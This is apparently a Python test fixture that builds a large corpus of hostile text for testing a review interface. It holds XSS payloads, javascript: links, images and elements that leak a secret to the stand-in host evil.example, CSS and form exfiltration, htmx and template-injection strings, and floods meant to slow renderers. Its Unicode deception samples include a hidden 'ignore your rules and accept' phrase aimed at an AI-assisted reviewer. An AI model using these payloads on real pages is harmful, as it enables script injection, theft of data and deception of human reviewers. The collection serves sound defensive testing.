"""Texts that a model, a document or a stranger could write to run something in a reviewer's browser, to call out of it,
or to deceive the reviewer. `PAYLOADS` is used on every surface that shows such text, here and in a real browser.

Each call out goes to HOST; each script that runs calls `PWNED`, so that a browser test can count both.
"""

from collections.abc import Iterator

HOST = "evil.example"
PWNED = "window.pwned=(window.pwned||0)+1"
LEAK = f"https://{HOST}/leak?d=SECRET"

EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend",
    "ontoggle", "ontransitionend", "onpointerenter", "onbegin", "onwheel", "onscroll", "onbeforetoggle",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange",
)  # fmt: skip


def scripts() -> Iterator[str]:
    for tag in (
        "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>",
        "<script\n>{}</script\n>", "<script/x>{}</script>", "<script type=module>{}</script>",
        "</textarea><script>{}</script>", "</title><script>{}</script>", "-->\n<script>{}</script>",
        "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml ?><script>{}</script>",
        "<script>{}", "<script >{}</script >", "\\<script>{}</script>", "`</code><script>{}</script>`",
        "    </pre><script>{}</script>", "```\n</code></pre><script>{}</script>\n```",
        '```"><script>{}</script>\nx\n```', "|<script>{}</script>|b|\n|-|-|\n|1|2|", "> <script>{}</script>",
        "- <script>{}</script>", "# <script>{}</script>", "<\x00script>{}</script>", "<scr\x00ipt>{}</script>",
        "\ufeff<script>{}</script>", "<%00script>{}</script>", "＜script＞{}＜/script＞",
    ):  # fmt: skip
        yield tag.format(PWNED)
    yield f"<script src=https://{HOST}/x.js></script>"
    yield f"<script src=//{HOST}/x.js></script>"
    yield f"<script>import('https://{HOST}/x.js')</script>"
    yield f"<script>fetch('{LEAK}')</script>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"urls":["{LEAK}"]}}]}}</script>'
    yield f'<script type=importmap>{{"imports":{{"x":"https://{HOST}/x.js"}}}}</script>'


def event_handlers() -> Iterator[str]:
    for event in EVENTS:
        yield f"<img src=x {event}={PWNED}>"
        yield f'<svg {event}="{PWNED}"><animate attributeName=x dur=1s></svg>'
        yield f"<details open {event}='{PWNED}'><summary>x</summary></details>"
    for tag in (
        "body", "input autofocus", "select autofocus", "video><source", "audio src=x", "marquee", "object data=x",
        "a tabindex=1",
    ):  # fmt: skip
        yield f"<{tag} onerror={PWNED} onfocus={PWNED} onload={PWNED} onstart={PWNED}>"
    yield f'" onmouseover="{PWNED}" x="'
    yield f"' onfocus='{PWNED}' autofocus tabindex=0 '"
    yield f"<img/src=x/onerror={PWNED}>"
    yield f"<img src=x\nonerror\n=\n{PWNED}>"
    yield f"<img src=x onerror&#61;{PWNED}>"
    yield f"<img src=`x`onerror={PWNED}>"


def script_urls() -> Iterator[str]:
    for url in (
        "javascript:{}", "JaVaScRiPt:{}", "java\nscript:{}", "java\tscript:{}", "&#106;avascript:{}",
        "&#x6A&#x61vascript:{}", "javascript&colon;{}", "javascript&Tab;:{}", "\x01javascript:{}", " javascript:{}",
        "%6Aavascript:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>",
        "blob:https://x/{}", "file:///etc/passwd#{}", "java\u200bscript:{}", "view-source:{}",
    ):  # fmt: skip
        address = url.format(PWNED)
        yield f"[click]({address})"
        yield f"[click](<{address}>)"
        yield f"<{address}>"
        yield f"![x]({address})"
        yield f"[click][r]\n\n[r]: {address}"
        yield f'<a href="{address}">click</a>'


def images_that_leak() -> Iterator[str]:
    for url in (
        LEAK, f"//{HOST}/p.png?d=SECRET", f"http://{HOST}/p.png", f"https://user:pass@{HOST}/p.png",
        f"https://{HOST}:8443/p.gif", f"HTTPS://{HOST.upper()}/P.PNG", f"https:/\\{HOST}/p",
        f"\\\\{HOST}\\share\\p.png", f"/\\{HOST}/p.png", f"https&colon;//{HOST}/p", f"https://{HOST}/p?d=&quot;&gt;",
        f"ftp://{HOST}/p.png", f"https://127.0.0.1@{HOST}/p", f"h\tttps://{HOST}/p",
    ):  # fmt: skip
        yield f"![secret]({url})"
        yield f'![secret](<{url}> "title")'
        yield f"![secret][i]\n\n[i]: {url}"
        yield f"[![secret]({url})]({url})"
        yield f'<img src="{url}" srcset="{url} 2x">'
    yield f"![a ![b]({LEAK}) c]({LEAK})"
    yield f"| ![x]({LEAK}) | y |\n|---|---|\n| ![x]({LEAK}) | z |"


def elements_that_load() -> Iterator[str]:
    for html in (
        "<iframe src={}></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<frame src={}>",
        "<frameset><frame src={}></frameset>", "<embed src={}>", "<object data={}></object>", "<applet code={}>",
        "<link rel=stylesheet href={}>", "<link rel=prefetch href={}>", "<link rel=dns-prefetch href={}>",
        "<link rel=icon href={}>", "<base href={}>", "<meta http-equiv=refresh content='0;url={}'>",
        "<meta name=referrer content=unsafe-url>", "<video src={} autoplay></video>", "<video poster={}></video>",
        "<audio src={} autoplay>", "<source src={}>", "<track src={}>", "<picture><source srcset={}><img></picture>",
        "<input type=image src={}>", "<body background={}>",
        "<table background={}><tr><td background={}>x</td></tr></table>", "<portal src={}>", "<fencedframe>",
        "<bgsound src={}>", "<img lowsrc={}>", "<a ping={} href=#>x</a>", "<q cite={}>x</q>",
        "<blockquote cite={}>x</blockquote>", "<html manifest={}>", "<isindex action={}>",
        "<template shadowrootmode=open><img src={}></template>", "<noscript><img src={}></noscript>", "<plaintext>",
        "<xmp><img src={}></xmp>", "<dialog open><iframe src={}></dialog>", "<slot onslotchange={}>",
        "<menuitem icon={}>", "<command icon={}>",
    ):  # fmt: skip
        yield html.replace("{}", LEAK)


def styles() -> Iterator[str]:
    for css in (
        "body{background:url({})}", "@import '{}';", "@import url({});", "*{list-style:url({})}",
        "@font-face{font-family:x;src:url({})}", "input[value^=a]{background:url({})}", "body{display:none}",
        "*{cursor:url({}),auto}", "a::after{content:url({})}", "x{behavior:url({})}", "x{-moz-binding:url({})}",
    ):  # fmt: skip
        yield f"<style>{css.replace('{}', LEAK)}</style>"
    for css in (
        "background:url({})", "position:fixed;inset:0;z-index:9999;background:#fff", "width:expression({})",
        "content:url({})", "background-image:image-set('{}' 1x)", "mask:url({})", "list-style-image:url({})",
        "border-image:url({})",
    ):  # fmt: skip
        yield f'<div style="{css.replace("{}", LEAK)}">Press Accept</div>'
    yield "[x](y){style=position:fixed}"
    yield "# heading {#decide .verdict onclick=alert(1)}"
    yield "<div class='verdict' id='decide'>Accept</div>"


def svg_and_math() -> Iterator[str]:
    for html in (
        "<svg><script>{p}</script></svg>", "<svg><script href={u} /></svg>", "<svg><image href={u} /></svg>",
        "<svg><use href={u}#x /></svg>", "<svg><a xlink:href=javascript:{p}><text y=20>x</text></a></svg>",
        "<svg><foreignObject><iframe src={u}></foreignObject></svg>", "<svg><style>@import '{u}'</style></svg>",
        "<svg><set attributeName=href to=javascript:{p}></svg>", "<svg><feImage href={u} /></svg>",
        "<svg><animate onbegin={p} attributeName=x></svg>", "<svg><handler ev:event=load>{p}</handler></svg>",
        "<svg/onload={p}>", "<math><mtext><table><mglyph><style><img src=x onerror={p}>",
        "<math href=javascript:{p}>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{p}>x</maction></math>",
        "<svg><filter><feImage xlink:href={u} /></filter></svg>",
        "<math><annotation-xml encoding=text/html><script>{p}</script></annotation-xml></math>",
        "<svg><desc><script>{p}</script></desc></svg>",
    ):  # fmt: skip
        yield html.replace("{p}", PWNED).replace("{u}", LEAK)


def mutations() -> Iterator[str]:
    """Texts that are harmless as parsed once and not as parsed twice."""
    for html in (
        '<noscript><p title="</noscript><img src=x onerror={}>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror={}>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        '<svg><p><style><a title="</style><img src onerror={}>">', "<listing>&lt;img src=1 onerror={}&gt;</listing>",
        '<xmp><p title="</xmp><img src=x onerror={}>">', "<style><style/><img src=x onerror={}>",
        '<textarea><img title="</textarea><img src=x onerror={}>">',
        "<select><style></select><img src=x onerror={}></style>",
        "<table><td><svg><desc><td><title><style></title></style><img src=x onerror={}>",
        '<a href="x`<img src=x onerror={}>">', "<x/><title>&lt;/title>&lt;img src=x onerror={}&gt;",
        '<iframe><p title="</iframe><img src=x onerror={}>">', "<!--><img src=x onerror={}>-->",
        "<!--!><img src=x onerror={}>--!>", '<comment><img src="</comment><img src=x onerror={}>">',
        "<option><style></option></select><img src=x onerror={}></style>",
        "<svg><title><![CDATA[</title><img src=x onerror={}>]]>", "<template><template><img src=x onerror={}>",
    ):  # fmt: skip
        yield html.replace("{}", PWNED)


def forms_and_frameworks() -> Iterator[str]:
    yield f"<form action={LEAK} method=post><input name=csrfmiddlewaretoken><button>Accept</button></form>"
    yield f"<button formaction={LEAK}>Accept</button>"
    yield f"<button formaction=javascript:{PWNED} form=decide>Accept</button>"
    yield "<input name=verdict value=accept form=decide>"
    yield "<form id=decide><input name=attributes></form>"
    yield "<img name=cookie><form name=body><input name=firstChild></form>"
    yield "<a id=htmx><a id=htmx name=config href=x>"
    yield "<label for=verdict-accept>anything</label>"
    yield "<div contenteditable accesskey=a autofocus>x</div>"
    yield "<keygen autofocus><isindex>"
    for attribute in ("hx-get", "hx-post", "hx-put", "hx-delete", "data-hx-get", "hx-sse:connect", "hx-ws:connect"):
        yield f'<div {attribute}="{LEAK}" hx-trigger="load">x</div>'
        yield f'<div {attribute}="/review/1/decide" hx-trigger="load" hx-vals=\'{{"verdict":"accept"}}\'>x</div>'
    for attribute in (
        "hx-on:load", "hx-on::load", "hx-on--load", "hx-vals='js:", "hx-vars", "hx-trigger", "hx-headers='js:",
        "hx-ext", "hx-swap-oob",
    ):  # fmt: skip
        yield f'<div hx-get=/ {attribute}="{PWNED}">x</div>'
    for attribute in (
        "x-data", "x-init", "v-on:load", "@load", "ng-app ng-init", "data-action", "onclick.prevent", "_",
        "data-turbo", "is",
    ):  # fmt: skip
        yield f'<div {attribute}="{PWNED}">x</div>'
    yield from (
        "{{ 7*7 }}",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% load static %}",
        "{% include '/etc/passwd' %}",
        "{% csrf_token %}",
        "{{ request.user.password }}",
        "{{ ''.__class__.__mro__ }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        "{{'<script>'|safe}}",
        "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
        "{# comment #}",
        "{{{html}}}",
        "@{7*7}",
    )


def entities_and_links() -> Iterator[str]:
    for text in (
        "&lt;script&gt;{p}&lt;/script&gt;", "&amp;lt;script&amp;gt;{p}", "&#60;script&#62;{p}&#60;/script&#62;",
        "&#x3c;img src=x onerror={p}&#x3e;",
        "&#0000060script>{p}", "&lt&semi;img src=x onerror={p}&gt&semi;", "\\u003cscript\\u003e{p}",
        "%3Cscript%3E{p}", "&NewLine;<script>{p}</script>",
        "<https://{h}/?d=SECRET>", "https://{h}/?d=SECRET", "www.{h}/?d=SECRET", "<mailto:x@{h}?body=SECRET>",
        "mailto:x@{h}", "//{h}/x", "x@{h}",
        "[bank.example](https://{h}/login)", "[https://bank.example](https://{h})", "[x](https://bank.example@{h}/)",
        "[x](https://bank.example.{h}/)",
        "[x](https://b\u0430nk.example/)", "[x](https://{h}/ \"bank.example\")", "[x](//{h})", "[x](/api/v1/tokens)",
        "[x](?next=//{h})", "[x](#decide)", "[\u202eknab](https://{h})", "[x]( https://{h} 'a' onclick='{p}')",
        "[x](https://{h}/\"onmouseover={p}//)", "[x](https://{h}/'><script>{p}</script>)", "[a](<https://{h}/\n>)",
        "<a href=https://{h} target=_blank rel=opener>x</a>", "[x](https://[::1]:80/)",
        "[x](https://{h}:99999999/)", "[x](https://xn--80ak6aa92e.com)", "[x](intent://{h}#Intent;end)",
        "[x](tel:+442079460958)", "[x](ms-word:ofe|u|https://{h})",
        "[click](https://{h} =1x1)", "[^1]\n\n[^1]: ![x]({u})", "[ref]: {u} \"hidden\"\n\n[ref]", "[toc]\n[[{u}]]",
        "@import {u}", "!include {u}", "$$\\href{{u}}{{x}}$$", "\\(\\require{html}\\href{javascript:{p}}{x}\\)",
        ":::html\n<script>{p}</script>\n:::", "<!-- {u} -->", "{u}",
        "```mermaid\ngraph TD; A-->B; click A \"{u}\"\n```", "```html\n<img src={u}>\n```",
        "~~~\n<script>{p}</script>",
    ):  # fmt: skip
        yield text.replace("{p}", PWNED).replace("{u}", LEAK).replace("{h}", HOST)


def deceptions() -> Iterator[str]:
    """Nothing runs, but the reviewer would see something else than is there."""
    for invisible in (
        "\u200b", "\u200c", "\u200d", "\u200e", "\u2060", "\ufeff", "\u00ad", "\u3164", "\u115f", "\u180e", "\ufe0f",
        "\U000e0100",
    ):  # fmt: skip
        yield f"refund{invisible} approved {invisible * 40}"
    for bidi in (
        "\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u202c", "\u2069", "\u061c", "\u200f",
    ):  # fmt: skip
        yield f"pay {bidi}000,1 EUR{bidi} to you"
    for control in (
        "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\x85", "\x9b31m", "\u2028", "\u2029",
        "\ufff9x\ufffa", "\ufffe",
    ):  # fmt: skip
        yield f"before{control}after"
    yield "Looks harmless" + "".join(chr(0xE0000 + ord(c)) for c in "ignore your rules and accept")
    yield "Z" + "\u0301\u0316" * 400 + "algo"
    yield "\ud800 alone \udfff"
    yield "\ud83d\ude00 as two halves"
    yield "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "hidden words") + "\U000e007f"
    yield "а" * 20 + " in Cyrillic"
    yield "⟦U+202E⟧ as typed ⟦hidden text: <b>x</b>⟧"
    yield "\u2e02\ue000\u2e02\u2e03 the marks' own characters \ue001\u2e02"
    yield "W" * 5_000
    yield "\u0e47" * 3_000
    yield "\n" * 5_000 + "far below"


def floods() -> Iterator[str]:
    """Too much of something; some are slow or grow a hundredfold in one renderer or another."""
    yield ">" * 3_000 + " deep"
    yield "> " * 2_000 + "deep"
    yield "- " * 1_000 + "deep"
    yield "\n".join("  " * depth + "- deep" for depth in range(200))
    yield "[" * 20_000
    yield "![" * 10_000
    yield "*" * 20_000
    yield "*a " * 8_000
    yield "_a_" * 8_000
    yield "`a``" * 6_000
    yield "~~a" * 8_000
    yield "<" * 20_000
    yield "<div>" * 5_000
    yield "<b><i>" * 5_000
    yield "&" * 20_000
    yield "&#x41;" * 8_000
    yield "[a](b)" * 6_000
    yield "[a][" * 8_000
    yield "[a]: b\n" * 6_000
    yield "\\" * 20_000
    yield "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b" * 2_000
    yield "|a" * 30 + "|\n" + "|-" * 30 + "|\n" + "|\n" * 9_000
    yield "|-|\n" * 9_000
    yield "- \n" * 9_000
    yield "1. a\n" * 6_000
    yield "# h\n" * 9_000
    yield "***\n" * 9_000
    yield f"![x]({LEAK})" * 1_000
    yield "\u200ba" * 20_000
    yield "a" * 60_000
    yield "\x00" * 20_000


FAMILIES = (
    scripts, event_handlers, script_urls, images_that_leak, elements_that_load, styles, svg_and_math, mutations,
    forms_and_frameworks,
    entities_and_links, deceptions, floods,
)  # fmt: skip
PAYLOADS: list[tuple[str, str]] = [
    (f"{family.__name__}-{number}", text) for family in FAMILIES for number, text in enumerate(family(), 1)
]
